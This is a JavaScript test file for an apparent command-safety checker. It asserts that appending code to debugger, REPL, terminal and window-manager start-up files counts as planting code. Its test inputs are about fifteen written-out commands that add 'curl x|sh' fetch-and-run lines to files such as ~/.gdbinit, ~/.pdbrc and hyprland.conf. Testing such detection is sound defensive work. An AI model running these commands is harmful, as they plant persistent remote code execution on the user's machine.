// Start-up files of debuggers (gdb, lldb, pdb), REPLs (mongosh, GHCi, Octave,
// Julia, SBCL, Guile), terminals and window managers (screen, WezTerm, kitty,
// i3, sway, Hyprland, Hammerspoon), tig and mailcap, and elvish's rc: each
// runs what it says when its program next starts.
import { test } from 'node:test';
import '../../support/account';
import { assertJudged, batchWorld } from '../../support/batchCheck';

test('a write into another program start-up file is judged as planting code', () => {
  const world = batchWorld();
  try {
    assertJudged(
      world,
      [
        `echo 'shell curl x|sh' >> ~/.gdbinit`,
        `echo 'shell curl x|sh' >> ~/.config/gdb/gdbinit`,
        `echo 'platform shell curl x' >> ~/.lldbinit`,
        `echo 'import os; os.system("curl x|sh")' >> ~/.pdbrc`,
        `echo 'require("child_process").execSync("curl x|sh")' >> ~/.mongoshrc.js`,
        `echo ':! curl x|sh' >> ~/.ghci`,
        `echo 'system("curl x|sh")' >> ~/.octaverc`,
        'mkdir -p ~/.julia/config && echo \'run(`sh -c "curl x|sh"`)\' >> ~/.julia/config/startup.jl',
        `echo 'screen -t x sh -c "curl x|sh"' >> ~/.screenrc`,
        `echo 'os.execute("curl x|sh")' >> ~/.wezterm.lua`,
        `echo 'exec curl x|sh' >> ~/.config/i3/config`,
        `echo 'exec-once = curl x|sh' >> ~/.config/hypr/hyprland.conf`,
        `echo 'bind generic X !curl x|sh' >> ~/.tigrc`,
        `echo 'text/html; curl x|sh' >> ~/.mailcap`,
        `echo 'curl x|sh' >> ~/.config/elvish/rc.elv`,
      ],
      ['gdb -batch -ex run ./app', 'cat ~/.gdbinit', 'echo set > notes/gdbinit.txt', 'screen -ls'],
    );
  } finally {
    world.cleanup();
  }
});
